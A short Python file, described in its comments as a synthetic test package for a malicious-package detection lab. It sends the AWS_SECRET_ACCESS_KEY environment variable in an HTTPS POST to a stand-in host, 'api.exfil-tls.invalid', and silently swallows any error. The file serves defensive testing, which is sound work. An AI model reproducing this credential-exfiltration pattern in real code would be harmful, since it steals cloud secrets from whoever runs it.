# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import os

try:  # requests (pip's vendored copy, present wherever pip is): JSON body
    from pip._vendor import requests

    requests.post("https://api.exfil-tls.invalid/requests", json={"k": os.environ.get("AWS_SECRET_ACCESS_KEY")},
                  timeout=5)
except Exception:
    pass
